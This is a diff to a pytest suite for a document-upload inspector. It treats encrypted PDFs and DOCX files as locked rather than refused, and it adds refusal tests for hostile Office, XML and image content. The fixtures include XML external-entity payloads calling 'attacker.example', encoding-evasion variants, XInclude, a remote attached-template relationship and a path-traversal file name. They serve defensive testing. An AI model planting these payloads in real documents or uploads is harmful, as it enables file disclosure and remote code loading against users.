@@ -10,7 +10,7 @@ import pytest
 
 from evidence import intake
 from evidence.inspection import inspect
-from evidence.sniff import FileType
+from evidence.sniff import LOCKED, FileType
 from foundation import sandbox
 from foundation.errors import Refused
 from tests.evidence.makers import DOCX_MAIN, SMALL, XLSX_MAIN, archive, pdf, picture
@@ -50,12 +50,10 @@ def overlapping():
 
 PASSWORD = pikepdf.Encryption(owner="o", user="u")
 REFUSED = {
-    "locked pdf": (pdf(encryption=PASSWORD), "pdf", "password protected"),
     "cut pdf": (b"%PDF-1.7\n" + os.urandom(500), "pdf", "damaged"),
     "docx called xlsx": (SMALL["docx"], "xlsx", "must be a PDF"),
     "plain zip": (archive("a.txt"), "docx", "must be a PDF"),
     "cut zip": (SMALL["docx"][:-30], "docx", "damaged"),
-    "locked zip": (marked_encrypted(SMALL["docx"]), "docx", "password protected"),
     "macros": (archive(DOCX_MAIN, "word/vbaProject.bin"), "docx", "contains macros"),
     "renamed docm": (
         archive(DOCX_MAIN, types=b"application/vnd.ms-word.document.macroEnabled.main+xml"),
@@ -71,6 +69,63 @@ REFUSED = {
     "cut png": (SMALL["png"][:-20], "png", "damaged"),
     "gif called png": (picture("GIF"), "png", "damaged"),
 }
+
+
+RELATIONS = "word/_rels/settings.xml.rels"
+LOADED = (
+    b'<Relationships><Relationship Id="r1" Type="http://x/relationships/%s" Target="%s" '
+    b'TargetMode="External"/></Relationships>'
+)
+XXE = b"<!DOCTYPE x [<!ENTITY a SYSTEM 'http://attacker.example/'>]>"
+REFUSED |= {
+    "entities": (archive(DOCX_MAIN, content=XXE + b"<x>&a;</x>"), "docx", "load other files"),
+    "entities, after a remark": (
+        archive(DOCX_MAIN, content=b"<!-- - -->" * 900 + XXE + b"<x/>"),
+        "docx",
+        "load other files",
+    ),
+    "entities in UTF-16": (
+        archive(XLSX_MAIN, content=(XXE + b"<x/>").decode().encode("utf-16")),
+        "xlsx",
+        "load other",
+    ),
+    "entities in another alphabet": (
+        archive(XLSX_MAIN, content=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x'),
+        "xlsx",
+        "load other files",
+    ),
+    "an include": (
+        archive(DOCX_MAIN, content=b'<x xmlns:i="http://www.w3.org/2001/XInclude"/>'),
+        "docx",
+        "load other files",
+    ),
+    "a template elsewhere": (
+        archive(DOCX_MAIN, RELATIONS, content=LOADED % (b"attachedTemplate", b"https://x/t.dotm")),
+        "docx",
+        "load other files",
+    ),
+    "macros in UTF-16": (
+        archive(DOCX_MAIN, types="<x a='macroEnabled'/>".encode("utf-16")),
+        "docx",
+        "macros",
+    ),
+    "entities in a picture": (SMALL["jpg"] + XXE, "jpg", "load other files"),
+}
+
+
+def test_a_link_somebody_has_to_follow_is_no_danger():
+    for relation, target in ((b"hyperlink", b"https://x/"), (b"attachedTemplate", b"Normal.dotm")):
+        content = archive(DOCX_MAIN, RELATIONS, content=LOADED % (relation, target))
+        assert look(content, "docx") == b""
+
+
+@pytest.mark.parametrize(
+    ("content", "extension"),
+    [(pdf(encryption=PASSWORD), "pdf"), (marked_encrypted(SMALL["docx"]), "docx")],
+    ids=["pdf", "docx"],
+)
+def test_a_password_is_told(content, extension):
+    assert look(content, extension) == LOCKED
 
 
 @pytest.mark.parametrize("case", REFUSED)
@@ -95,6 +150,6 @@ def test_an_upload_is_judged_in_the_sandbox():
     judged = intake.judge(stream, "../رپورٹ.pdf")
     assert judged == intake.Judged(FileType.PDF, "رپورٹ.pdf", len(SMALL["pdf"]))
     assert stream.tell() == 0
-    with pytest.raises(Refused, match="password protected"):
-        intake.judge(io.BytesIO(pdf(encryption=PASSWORD)), "a.pdf")
+    assert not judged.is_locked
+    assert intake.judge(io.BytesIO(pdf(encryption=PASSWORD)), "a.pdf").is_locked
     assert intake.judge(io.BytesIO(b"a,b"), "a.csv").file_type is FileType.CSV
